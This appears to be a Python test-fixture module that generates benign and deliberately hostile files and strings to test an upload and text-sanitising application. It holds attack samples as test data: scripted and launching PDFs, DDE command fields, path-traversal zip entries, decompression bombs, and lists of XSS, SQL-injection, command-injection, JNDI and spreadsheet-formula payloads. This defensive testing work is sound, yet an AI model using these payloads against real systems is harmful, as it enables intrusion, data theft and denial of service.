"""Files and texts to try the application with, made here: honest files of every format, and all that is hostile."""

import io
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from itertools import groupby

import pikepdf
import pillow_heif
from PIL import Image

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(document.domain)</script>"


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **saving) -> bytes:
    """A PDF of one page, changed by `change` before it is saved."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    document.pages[0].Contents = document.make_stream(b"BT /F1 12 Tf 72 720 Td (Bonjour) Tj ET")
    if change is not None:
        change(document)
    out = io.BytesIO()
    document.save(out, **saving)
    return out.getvalue()


def with_script(document: pikepdf.Pdf) -> None:
    """Open with a script, hold another under a name, another on the page, launch a program, send the form away."""
    action = pikepdf.Dictionary
    script = action(S=pikepdf.Name.JavaScript, JS="app.alert('scripted')")
    document.Root.OpenAction = script
    document.Root.Names = action(JavaScript=action(Names=["one", document.make_indirect(script)]))
    document.pages[0].AA = action(O=action(S=pikepdf.Name.Launch, F="calc.exe"))
    link = action(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 9, 9],
        A=action(S=pikepdf.Name.SubmitForm, F="https://exemple.example"),
    )
    document.pages[0].Annots = [document.make_indirect(link)]


def with_attachment(document: pikepdf.Pdf) -> None:
    """Carry a program inside."""
    document.attachments["virus.exe"] = pikepdf.AttachedFileSpec(document, b"MZ-passenger")


def with_dynamic_form(document: pikepdf.Pdf) -> None:
    """Carry a second document of the dynamic kind, with its own scripts."""
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=document.make_stream(b"<xdp>xfa-passenger</xdp>"))


def with_signature(document: pikepdf.Pdf) -> None:
    """Carry the signature of somebody."""
    value = pikepdf.Dictionary(
        Type=pikepdf.Name.Sig, Filter=pikepdf.Name("/Adobe.PPKLite"), ByteRange=[0, 10, 20, 30], Contents=b"\0" * 20
    )
    field = pikepdf.Dictionary(FT=pikepdf.Name.Sig, T="Signature1", V=document.make_indirect(value))
    document.Root.AcroForm = pikepdf.Dictionary(SigFlags=3, Fields=[document.make_indirect(field)])


def with_outside_stream(document: pikepdf.Pdf) -> None:
    """Draw a picture that lies in another file, and send readers there."""
    picture = document.make_stream(b"", F="https://exemple.example/outside", Subtype=pikepdf.Name.Image)
    document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=picture))
    document.Root.URI = pikepdf.Dictionary(Base="https://exemple.example/outside")
    away = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="outside.pdf", D=[0, pikepdf.Name.Fit])
    document.Root.OpenAction = away


def heic() -> bytes:
    """What a recent telephone writes."""
    out = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", (64, 48), (200, 20, 40))).save(out)
    return out.getvalue()


def with_objects(count: int) -> Callable[[pikepdf.Pdf], None]:
    """Hold many useless objects."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root.Pile = [document.make_indirect(pikepdf.Dictionary(N=i)) for i in range(count)]

    return change


def image(kind: str, size: tuple[int, int] = (40, 20), mode: str = "RGB", **saving) -> bytes:
    """A picture of one colour."""
    out = io.BytesIO()
    Image.new(mode, size, 0 if len(mode) == 1 else (200, 20, 40, 255)[: len(mode)]).save(out, format=kind, **saving)
    return out.getvalue()


def exif(orientation: int) -> Image.Exif:
    """What a telephone writes: how it was held, and who it is."""
    facts = Image.Exif()
    facts[0x0112] = orientation
    facts[0x010F] = "MarqueDuTelephone"
    return facts


def archive(entries: dict[str, bytes], *, stored: tuple[str, ...] = ("mimetype",), comment: bytes = b"") -> bytes:
    """A zip of these entries, in this order."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in entries.items():
            target.writestr(name, content, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
        target.comment = comment
    return out.getvalue()


def types(main: str, *more: str) -> bytes:
    """The list of content types of an office document."""
    rows = "".join(f'<Override PartName="/part{i}.xml" ContentType="{kind}"/>' for i, kind in enumerate((main, *more)))
    space = "http://schemas.openxmlformats.org/package/2006/content-types"
    return f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{space}">{rows}</Types>'.encode()


def relation(kind: str, target: str) -> bytes:
    """One relationship that leaves the document."""
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE}/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def docx(more: dict[str, bytes] | None = None, *, content_types: bytes | None = None, main: str = WORD) -> bytes:
    """A word processor document, with `more` entries."""
    return archive(
        {"[Content_Types].xml": content_types or types(main), "word/document.xml": b"<w:document/>", **(more or {})}
    )


def odf(kind: str, more: dict[str, bytes] | None = None, *, manifest: bytes = b"<manifest:manifest/>") -> bytes:
    """An OpenDocument, with `more` entries."""
    return archive(
        {"mimetype": kind.encode(), "content.xml": b"<x/>", "META-INF/manifest.xml": manifest, **(more or {})}
    )


def zip_entry_named(name: str) -> bytes:
    """A document with an entry of this very name, which zip tools would tidy: written by renaming in place."""
    holder = "w" * len(name)
    return docx({holder: b"x"}).replace(holder.encode(), name.encode())


def twice(content: bytes, name: bytes, other: bytes) -> bytes:
    """The same archive with one entry renamed as another."""
    return content.replace(name, other)


def encrypted_flag(content: bytes) -> bytes:
    """The same archive, its entries said to be encrypted."""
    changed = bytearray(content)
    for magic, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = changed.find(magic)
        while start >= 0:
            changed[start + place] |= 1
            start = changed.find(magic, start + 4)
    return bytes(changed)


def png_header(width: int, height: int) -> bytes:
    """A PNG that only claims its size: a few bytes for billions of points."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4) + kind + data + zlib.crc32(kind + data).to_bytes(4)

    head = width.to_bytes(4) + height.to_bytes(4) + bytes([8, 2, 0, 0, 0])
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")
    )


def unfolding_pdf() -> bytes:
    """A sound PDF whose catalogue lies in a bomb: 200 kB that unfold to 200 MB while the file is merely opened."""
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"]
    objects.append(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>")
    offsets = [sum(len(each) + 1 for each in objects[:i]) for i in range(3)]
    index = " ".join(f"{i + 1} {offset}" for i, offset in enumerate(offsets)).encode() + b" "
    packer = zlib.compressobj(9)
    packed = packer.compress(index + b" ".join(objects) + b" ")
    packed += b"".join(packer.compress(b" " * 1_000_000) for _ in range(200)) + packer.flush()
    head = b"%PDF-1.5\n"
    folded = (
        f"4 0 obj\n<</Type/ObjStm/N 3/First {len(index)}/Filter/FlateDecode/Length {len(packed)}>>\nstream\n".encode()
        + packed
        + b"\nendstream\nendobj\n"
    )
    start = len(head) + len(folded)
    places = [(0, 0, 65535), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, len(head), 0), (1, start, 0)]
    table = b"".join(kind.to_bytes(1) + place.to_bytes(4) + rest.to_bytes(2) for kind, place, rest in places)
    cross = f"5 0 obj\n<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length {len(table)}>>\nstream\n".encode() + table
    return head + folded + cross + f"\nendstream\nendobj\nstartxref\n{start}\n%%EOF\n".encode()


HONEST: dict[str, tuple[str, bytes]] = {
    "pdf": ("statuts.pdf", pdf()),
    "pdf with capital suffix": ("STATUTS.PDF", pdf()),
    "pdf of the first version": ("statuts.pdf", pdf(force_version="1.3")),
    "pdf packed": ("statuts.pdf", pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    "pdf in one stroke": ("statuts.pdf", pdf(linearize=True)),
    "pdf ending in blank lines": ("statuts.pdf", pdf() + b"\r\n\n \0"),
    "pdf with scripts, which are removed": ("formulaire.pdf", pdf(with_script)),
    "jpeg": ("photo.jpg", image("JPEG")),
    "jpeg, long suffix": ("photo.JPEG", image("JPEG")),
    "jpeg in grey": ("photo.jpg", image("JPEG", mode="L")),
    "jpeg in four inks": ("photo.jpg", image("JPEG", mode="CMYK")),
    "jpeg of a recent telephone": ("photo.jpg", image("JPEG", size=(8000, 6000), mode="L")),
    "png": ("plan.png", image("PNG")),
    "png see-through": ("plan.png", image("PNG", mode="RGBA")),
    "png of few colours": ("plan.png", image("PNG", mode="P")),
    "docx": ("projet.docx", docx()),
    "docx with a link and a chart": (
        "projet.docx",
        docx(
            {
                "word/_rels/document.xml.rels": relation("hyperlink", "https://exemple.example"),
                "word/embeddings/Feuille1.xlsx": b"PK",
            }
        ),
    ),
    "xlsx": ("budget.xlsx", docx(main=SHEET)),
    "odt": ("projet.odt", odf(ODT)),
    "odt with pictures": (
        "projet.odt",
        odf(ODT, {"Pictures/basic.png": image("PNG"), "Object 1/content.xml": b"<x/>"}),
    ),
    "ods": ("budget.ods", odf(ODS)),
    "a long honest table": (
        "budget.xlsx",
        docx({"xl/sheet.xml": "".join(f"<row><c>{i}</c></row>" for i in range(90_000)).encode()}, main=SHEET),
    ),
    "blanks before a pdf": ("statuts.pdf", b"\xef\xbb\xbf\r\n \n" + pdf()),
    "loose bytes after a pdf": ("statuts.pdf", pdf() + b"\r\n0 0 transfer complete"),
    "pdf without its end marker": ("statuts.pdf", pdf().rpartition(b"%%EOF")[0]),
    "pdf that may not be changed": ("statuts.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user=""))),
    "docx with a template elsewhere": (
        "projet.docx",
        docx({"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://exemple.example/t.dotm")}),
    ),
    "docx with a picture elsewhere": (
        "projet.docx",
        docx({"word/_rels/document.xml.rels": relation("image", "https://exemple.example/pixel.png")}),
    ),
    "xlsx linked to another": (
        "budget.xlsx",
        docx({"xl/externalLinks/_rels/l.xml.rels": relation("externalLinkPath", "file://///host/b.xlsx")}, main=SHEET),
    ),
}

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_FIELD = (
    '<w:document xmlns:w="%s"><w:r><w:fldChar w:fldCharType="begin"/></w:r>%s<w:r><w:fldChar '
    'w:fldCharType="separate"/></w:r><w:r><w:t>what was shown stays</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>'
    "</w:r></w:document>"
)


def words_with(*pieces: str) -> bytes:
    """A main part with one field, whose instruction comes in pieces."""
    instructions = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return (_FIELD % (_W, instructions)).encode()


def _text(body: str) -> bytes:
    spaces = 'xmlns:o="urn:o" xmlns:draw="urn:d" xmlns:text="urn:t" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f"<o:document {spaces}><text:p>stays</text:p>{body}</o:document>".encode()


# Documents that fetch or call when they are opened, and words that must be gone from what is shown.
REACHING: dict[str, tuple[str, bytes, bytes]] = {
    "docx with a template of its author": (
        "projet.docx",
        docx({"word/document.xml": b"<w>stays</w>",
              "word/_rels/settings.xml.rels": relation("attachedTemplate", "file:///C:/Users/ines/Asso.dotx")}),
        b"Asso.dotx",
    ),
    "docx with a picture elsewhere": (
        "projet.docx",
        docx({"word/document.xml": b"<w>stays</w>",
              "word/_rels/document.xml.rels": relation("image", "https://exemple.example/pixel.png")}),
        b"pixel.png",
    ),
    "docx that calls a program": (
        "projet.docx", docx({"word/document.xml": words_with(" DDEAUTO c:\\\\calc.exe ")}), b"calc.exe"
    ),
    "docx that calls a program, in pieces": (
        "projet.docx", docx({"word/document.xml": words_with(" D", "DE", "AUTO calc", " powershell ")}), b"powershell"
    ),
    "docx whose footer fetches a text": (
        "projet.docx", docx({"word/footer1.xml": words_with(' INCLUDETEXT "//hote/partage/x.docx" ')}), b"partage"
    ),
    "docx that calls a program, in UTF-16": (
        "projet.docx",
        docx({"word/document.xml": words_with(" DDEAUTO c:\\\\calc.exe ").decode().encode("utf-16")}), b"calc.exe",
    ),
    "docx whose main part has another ending": (
        "projet.docx",
        docx({"word/document.dat": words_with(" DDEAUTO c:\\\\calc.exe ")},
             content_types=types(WORD).replace(b"/part0.xml", b"/word/Document.dat")),
        b"calc.exe",
    ),
    "docx whose parts all have another ending": (
        "projet.docx",
        docx({"word/document.dat": words_with(" DDEAUTO c:\\\\calc.exe ")},
             content_types=types(WORD).replace(b'Override PartName="/part0.xml"', b'Default Extension="DAT"')),
        b"calc.exe",
    ),
    "docx with a simple field": (
        "projet.docx",
        docx({"word/header1.xml": b'<w:h><w:fldSimple w:instr=" DDE calc x "><w:t>stays</w:t></w:fldSimple></w:h>'}),
        b"calc",
    ),
    "xlsx linked to a program": (
        "budget.xlsx",
        docx({"xl/sheet1.xml": b"<s>stays</s>",
              "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc">'
              b"<ddeItems/></ddeLink></externalLink>"}, main=SHEET),
        b"calc",
    ),
    "xlsx with a formula that calls": (
        "budget.xlsx",
        docx({"xl/sheet1.xml": b'<s><c r="A1"><f>cmd|&apos;/C calc&apos;!A0</f><v>stays</v></c></s>'}, main=SHEET),
        b"calc",
    ),
    "xlsx with a connection": (
        "budget.xlsx",
        docx({"xl/sheet1.xml": b"<s>stays</s>",
              "xl/connections.xml": b'<connections><connection id="1"><webPr url="https://exemple.example/q"/>'
              b"</connection></connections>"}, main=SHEET),
        b"exemple.example",
    ),
    "odt with a picture elsewhere": (
        "projet.odt",
        odf(ODT, {"content.xml": _text('<draw:image xlink:href="https://exemple.example/pixel.png"/>')}),
        b"pixel.png",
    ),
    "odt that runs a script on opening": (
        "projet.odt",
        odf(ODT, {"content.xml": _text('<o:event-listener xlink:href="vnd.sun.star.script:a.b"/>')}),
        b"sun.star",
    ),
    "odt linked to a program": (
        "projet.odt",
        odf(ODT, {"content.xml": _text('<text:section><o:dde-source o:dde-application="soffice" o:dde-topic="/x"/>'
                                       "</text:section>")}),
        b"soffice",
    ),
    "ods with a formula that calls": (
        "budget.ods",
        odf(ODS, {"content.xml": _text('<text:c text:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;)"/>')}),
        b"soffice",
    ),
}  # fmt: skip

HOSTILE: dict[str, tuple[str, bytes]] = {
    "svg": ("logo.svg", SVG),
    "html": ("page.html", HTML),
    "program": ("setup.exe", b"MZ" + b"\0" * 60),
    "document with macros by name": ("budget.xlsm", docx(main=SHEET)),
    "no suffix": ("statuts", pdf()),
    "suffix alone": ("pdf", pdf()),
    "double suffix": ("statuts.pdf.exe", pdf()),
    "direction trick": ("statuts\u202efdp.exe", pdf()),
    "svg called pdf": ("logo.pdf", SVG),
    "svg called png": ("logo.png", SVG),
    "html called pdf": ("page.pdf", HTML),
    "html called jpeg": ("page.jpg", HTML),
    "html called docx": ("page.docx", HTML),
    "program called pdf": ("setup.pdf", b"MZ" + b"\0" * 60),
    "gif called png": ("photo.png", image("GIF")),
    "png called jpeg": ("photo.jpg", image("PNG")),
    "docx called pdf": ("projet.pdf", docx()),
    "docx called xlsx": ("projet.xlsx", docx()),
    "odt called ods": ("projet.ods", odf(ODT)),
    "odt called docx": ("projet.docx", odf(ODT)),
    "any zip called docx": ("projet.docx", archive({"a.txt": b"a"})),
    "any zip called odt": ("projet.odt", archive({"a.txt": b"a"})),
    "empty zip called docx": ("projet.docx", archive({})),
    "empty": ("statuts.pdf", b""),
    "html before a pdf": ("statuts.pdf", HTML + pdf()),
    "html after a pdf": ("statuts.pdf", pdf() + HTML),
    "zip after a pdf": ("statuts.pdf", pdf() + docx()),
    "zip after a pdf, with an end marker in its comment": (
        "statuts.pdf",
        pdf() + archive({"a": b"a"}, comment=b"%%EOF"),
    ),
    "pdf before a docx": ("projet.docx", pdf() + docx()),
    "html after a docx": ("projet.docx", docx() + HTML),
    "html in the comment of a docx": (
        "projet.docx",
        archive({"[Content_Types].xml": types(WORD), "word/document.xml": b""}, comment=HTML),
    ),
    "encrypted pdf": ("statuts.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="u"))),
    "pdf of too many objects": ("statuts.pdf", pdf(with_objects(61_000))),
    "pdf without a page": ("statuts.pdf", pdf(lambda document: document.pages.__delitem__(0))),
    "pdf cut in half": ("statuts.pdf", pdf()[: len(pdf()) // 2]),
    "pdf of random bytes": ("statuts.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"%%EOF"),
    "pdf that unfolds": ("statuts.pdf", unfolding_pdf()),
    "jpeg cut in half": ("photo.jpg", image("JPEG", size=(400, 400))[:700]),
    "png cut in half": ("plan.png", image("PNG")[:60]),
    "png of billions of points": ("plan.png", png_header(60_000, 60_000)),
    "png of too many points": ("plan.png", png_header(6_000, 6_000)),
    "jpeg of too many points": ("photo.jpg", image("JPEG", size=(9000, 9000), mode="L")),
    "docx with a macro": ("projet.docx", docx({"word/vbaProject.bin": b"x"})),
    "docx with a macro under another name": (
        "projet.docx",
        docx(content_types=types(WORD, "application/vnd.ms-office.vbaProject")),
    ),
    "docx whose main part allows macros": (
        "projet.docx",
        docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "docx that unfolds a page": ("projet.docx", docx(content_types=types(WORD, "text/html"))),
    "docx that unfolds a document of another kind": ("projet.docx", docx(content_types=types(WORD, "application/rtf"))),
    "docx with an active control": ("projet.docx", docx({"word/activeX/activeX1.xml": b"<x/>"})),
    "docx with an embedded program": ("projet.docx", docx({"word/embeddings/oleObject1.bin": b"x"})),
    "xlsx with macros of the old kind": ("budget.xlsx", docx({"xl/macrosheets/sheet1.xml": b"<x/>"}, main=SHEET)),
    "docx with unfolding entities": (
        "projet.docx",
        docx(content_types=b'<!DOCTYPE x [<!ENTITY a "aaaa">]>' + types(WORD)),
    ),
    "docx in another encoding": ("projet.docx", docx(content_types=types(WORD).decode().encode("utf-16"))),
    "docx with broken types": ("projet.docx", docx(content_types=b"<Types>")),
    "odt with a macro": ("projet.odt", odf(ODT, {"Basic/Standard/Module1.xml": b"<x/>"})),
    "odt with a script": ("projet.odt", odf(ODT, {"Scripts/python/a.py": b"x"})),
    "odt encrypted": ("projet.odt", odf(ODT, manifest=b"<manifest:encryption-data/>")),
    "odt without contents": ("projet.odt", archive({"mimetype": ODT.encode()})),
    "odt whose kind comes last": (
        "projet.odt",
        archive({"content.xml": b"", "META-INF/manifest.xml": b"", "mimetype": ODT.encode()}),
    ),
    "docx encrypted": ("projet.docx", encrypted_flag(docx())),
    "bomb in a docx": ("projet.docx", docx({"word/media/image1.png": b"\0" * 50_000_000})),
    "bomb of many parts": ("projet.docx", docx({f"word/{i}.xml": b"\0" * 1_000_000 for i in range(90)})),
    "too many entries": ("projet.docx", docx({f"word/{i}.xml": b"" for i in range(2_100)})),
    "entry that climbs": ("projet.docx", zip_entry_named("../../../etc/cron.d/x")),
    "entry from the root": ("projet.docx", zip_entry_named("/etc/passwd")),
    "entry of a drive": ("projet.docx", zip_entry_named("c:/windows/x")),
    "entry with back strokes": ("projet.docx", zip_entry_named("..\\..\\windows\\x")),
    "entry with a control": ("projet.docx", zip_entry_named("word/a\nb.xml")),
    "entry told twice": (
        "projet.docx",
        twice(docx({"word/documenu.xml": b"x"}), b"word/documenu.xml", b"word/document.xml"),
    ),
    "docx cut in half": ("projet.docx", docx()[:200]),
    "docx with a damaged part": (
        "projet.docx",
        archive({"[Content_Types].xml": types(WORD), "word/a": b"abcdefgh"}, stored=("word/a",)).replace(
            b"abcdefgh", b"abcdefgX"
        ),
    ),
}


# ---- texts ---------------------------------------------------------------------------------------------------------


def documented(text: str) -> str:
    """What the application says it does to a text, told again here, apart from the code that does it.

    Composed (NFC), no more than thirty marks in a row, one kind of line end, no control character but tab and line end,
    no lone half of a pair, neither U+FFFE nor U+FFFF, the bullets of symbol fonts made ordinary, no outer blanks.
    """
    lines = text.replace("\r\n", "\n")
    for end in "\r\v\f\x85\u2028\u2029":
        lines = lines.replace(end, "\n")
    characters = "".join(c for c in lines if c in "\n\t" or not is_unfit(c))
    runs = (list(run)[: 30 if are_marks else None] for are_marks, run in groupby(characters, key=is_mark))
    return unicodedata.normalize("NFC", "".join(c for run in runs for c in run)).strip()


def is_unfit(character: str) -> bool:
    """Whether this is a control character, half of a pair, or one that no XML may hold."""
    place = ord(character)
    return place < 0x20 or 0x7F <= place < 0xA0 or is_half(character) or place in {0xFFFE, 0xFFFF}


def is_mark(character: str) -> bool:
    """Whether this is a combining mark."""
    return unicodedata.combining(character) > 0


def is_half(character: str) -> bool:
    """Whether this is half of a surrogate pair."""
    return 0xD800 <= ord(character) <= 0xDFFF


MARKUP = (
    "<script>zqzq()</script>", "<img src=x onerror=zqzq()>", '"><zqzq onload=zqzq()>',
    "'><svg/onload=zqzq()>", '" onmouseover="zqzq()" zqzq="', "' autofocus onfocus=zqzq() '",
    "</textarea><zqzq>", "</title><zqzq>", "</script><script src=//zq.example>", "<!--", "--><zqzq>",
    "<![CDATA[<zqzq>]]>", "<a href=javascript:zqzq()>ici</a>", "javascript:zqzq()",
    "<iframe srcdoc='<zqzq>'>", "<style>*{color:red}</style>", "<base href=//zq.example>",
    "<meta http-equiv=refresh content=0>", "<form action=//zq.example><input name=zqzq>", "</form><zqzq>",
    "</table><zqzq>", "<math><mi xlink:href=javascript:zqzq()>", "<object data=x>",
    "<template><zqzq></template>", "<zqzq\x00>", "<\x00script>", "&lt;zqzq&gt;", "&#60;zqzq&#62;",
    "&amp;amp;", "&nbsp;", "&zqzq;", "\\u003czqzq\\u003e", "%3Czqzq%3E", "%253Czqzq", "＜zqzq＞", "<ｚqzq>",
    "`${zqzq}`", "<plaintext>", "<noscript><p title='</noscript><zqzq>'>", "<x:zqzq xmlns:x=a>",
    "[x](javascript:zqzq())", "**gras** _ital_ # titre", "|a|b|", "---", "<br>", "a<b>c", "1 < 2 && 3 > 2",
    "R&D",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{ config }}", "{% raw %}", "{%print(7*7)%}", "{# rien #}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{{{{7}}}}", "%(name)s", "%s %d %n", "%", "%%", "{0}", "{}", "{name}", "{n}", "{all}",
    "{0.__class__}", "$name", "${jndi:ldap://x}", "#set text(red)", '#import "x"', "$ x^2 $", "@label",
    "<label>", "= Titre typst", "\\def\\x{}", "`code`", '#eval("1")',
)  # fmt: skip
QUOTES = (
    "L'été", "L’été", "« Bien »", "“anglais”", "„allemand“", "'", '"', "''", '""', "`", "\\", "\\\\", "\\'",
    '\\"', "\\n", "a\\", "'; DROP TABLE account; --", "' OR '1'='1", '" OR 1=1 --', "1; SELECT pg_sleep(9)",
    "%' ESCAPE '", "\\'; --", "_%_", "100 %", "x' UNION SELECT password FROM account --", "/* */", "--",
    "$$", "$1", ":name", "?", "E'\\x00'", "NULL", "None", "true", "undefined", "NaN", "Infinity", "0", "-1",
    "1e9", "0x10", "1_000",
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd", "..\\..\\windows", "/etc/passwd", "file:///etc/passwd", "C:\\x",
    "//zq.example/x", "\\\\hote\\x", "https://zq.example/?a=1&b=2", "http://127.0.0.1:22/",
    "mailto:a@b.example?bcc=c@d.example", "data:text/html,<zqzq>", "a/../b", ".", "..", "~root",
    "%2e%2e%2f", "%00", "%0d%0aX-Zq: 1", "con", "a:b", "?a=1#b", "| id", "; id", "$(id)", "`id`", "&& id",
)  # fmt: skip
LINES = (
    "a\r\nBcc: zq@zq.example", "a\nX-Zq: 1", "a\rX-Zq: 1", "a\r\n\r\n<zqzq>", "a\n.\nb", "a\u2028b",
    "a\u2029b", "a\u0085b", "a\vb", "a\fb", "a\tb", "\ta", "a\n\n\n\nb", "a  b", "a   b", "\u00a0a\u00a0",
    "\u202fa\u202f!", "a\u3000b", "a\u2003b", "a\u1680b", "\ufeffa", "a\ufeffb", "=?utf-8?q?=3Czqzq=3E?=",
    "a" + " " * 60 + "b",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u202f=1+1",
    "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠A1", "=cmd|' /C calc'!A0", '"=1+1"',
    "'=1+1", "''=1+1", '"";=1+1', "a;=1+1", "a,=1+1", "a\t=1+1", "a\n=1+1", "a\n-1", '"\n=1+1', ";=1+1",
    "﹦1+1", "﹢1", "﹣1", "−1", "﹫A1", '=HYPERLINK("http://zq.example")', "\x00=1+1", "\x1f=1+1", "=",
    "+", "-", "@", "- un tiret", "-5 °C", "+33 6 00 00 00 00", "%=1", "\\=1+1", "a\r=1+1", "\u2028=1+1",
    "⁼1",
)  # fmt: skip
DIGITS = (
    "٣٤٥",
    "۱۲۳",
    "१२३",
    "１２３",
    "𝟏𝟐𝟑",
    "①②③",
    "Ⅷ",
    "½",
    "²",
    "௧௨",
    "౩",
    "๓",
    "〇一二",
    "1\u202f000",
    "1٬000",
    "٫5",
)
MARKS = (
    "e\u0301te\u0301", "été", "A\u030a", "Å", "\u212b", "o\u0302\u0301", "q\u0307\u0323", "q\u0323\u0307",
    "\u0301a", "a\u0301\u0301\u0301", "Z" + "\u0300\u0301\u0302\u0303" * 8, "ﬁn", "œuf", "Æ", "ĳ", "ǆ", "ß",
    "ẞ", "ſ", "İi", "ıI", "\u1100\u1161\u11a8", "각", "\u0344", "\u0958", "\u2126", "\uf900", "\U0002f800",
    "a\u034fb", "\u20dda", "<\u0338", "=\u0338", "a\u0340", "\u0387", "\u037e", "\u1fef",
)  # fmt: skip
HIDDEN = (
    "a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "a\u00adb", "a\u180eb", "a\u061cb", "\u202eabc\u202c",
    "\u202dabc\u202c", "\u2066abc\u2069", "\u2067abc\u2069", "\u200fabc", "\u200eabc", "abc\u202e",
    "a\u2061b", "a\u206ab", "a\ufff9b\ufffac\ufffbd", "\ufffd", "\ufffe", "\uffff", "\U0001fffe",
    "\U0010ffff", "\ue000", "\uf8ff", "\U000f0000", "\U0010fffd", "\U000e0041\U000e0042", "a\ufe0f",
    "a\ufe0e", "a\U000e0100", "\u115f", "\u1160", "\u3164", "\uffa0", "\u2800", "\u0378",
)  # fmt: skip
FACES = (
    "😀", "👩\u200d👩\u200d👧\u200d👦", "👍🏽", "🇫🇷", "🏳\ufe0f\u200d🌈", "❤\ufe0f", "1\ufe0f\u20e3",
    "🧑🏿\u200d🚒", "👁\ufe0f\u200d🗨\ufe0f",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "🫨", "\U0001f1ff", "🏽", "𝔗𝔢𝔵𝔱𝔢",
    "𝒳", "ℵ", "ℝ", "𐍈", "𠜎", "🀄", "𓀀", "🜁",
)  # fmt: skip
SCRIPTS = (
    "Ελληνικά", "Кириллица", "Հայերեն", "עִבְרִית", "العَرَبِيَّة", "ܣܘܪܝܝܐ", "ދިވެހި", "हिन्दी", "বাংলা",
    "ਪੰਜਾਬੀ", "ગુજરાતી", "ଓଡ଼ିଆ", "தமிழ்", "తెలుగు", "ಕನ್ನಡ", "മലയാളം", "සිංහල", "ไทยที่", "ລາວ", "བོད་སྐད",
    "မြန်မာ", "ქართული", "ᲥᲐᲠᲗ", "한국어", "አማርኛ", "ᏣᎳᎩ", "ᐃᓄᒃᑎᑐᑦ", "ខ្មែរ", "ᠮᠣᠩᠭᠣᠯ", "日本語", "ひらがな",
    "カタカナ", "ｶﾀｶﾅ", "简体字", "繁體字", "ꆈꌠ", "ⵜⵉⴼⵉⵏⴰⵖ", "ߒߞߏ", "ⲕⲏⲙⲉ", "𐌲𐌿𐍄", "ᚠᚢᚦ", "᚛ᚑᚌ᚜",
    "Tiếng Việt", "Ɓɔ̀ŋ", "Łódź", "Þórr", "ÇĞİŞ", "Ọ̀yọ́", "ʻŌlelo", "ỹ", "Ǆ", "ㄅㄆㄇ", "ⴀⴁ", "ꙮ", "ﷺ",
    "abc אבג 123 دهو", "Ω≈ç√∫", "→⇒∀∃", "♀♂⚥", "€£¥₽₿", "№ ™ ® ©",
)  # fmt: skip
HALVES = ("\ud800", "\udfff", "a\ud83db", "\udc00\ud800")
SHAPES = (
    "", " ", "\n", "\u00a0", "\u200b", "a" * 150, "mot" * 40, "a " * 70, "é" * 120, "😀" * 50,
    "\u0301" * 60, "W" * 120, "\u202e" * 40,
)  # fmt: skip
CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0)))

_KINDS = (
    MARKUP, TEMPLATES, QUOTES, PATHS, LINES, FORMULAS, DIGITS, MARKS, HIDDEN, FACES, SCRIPTS, HALVES, SHAPES, CONTROLS,
)  # fmt: skip
TEXTS: tuple[str, ...] = tuple(dict.fromkeys(text for kind in _KINDS for text in kind))
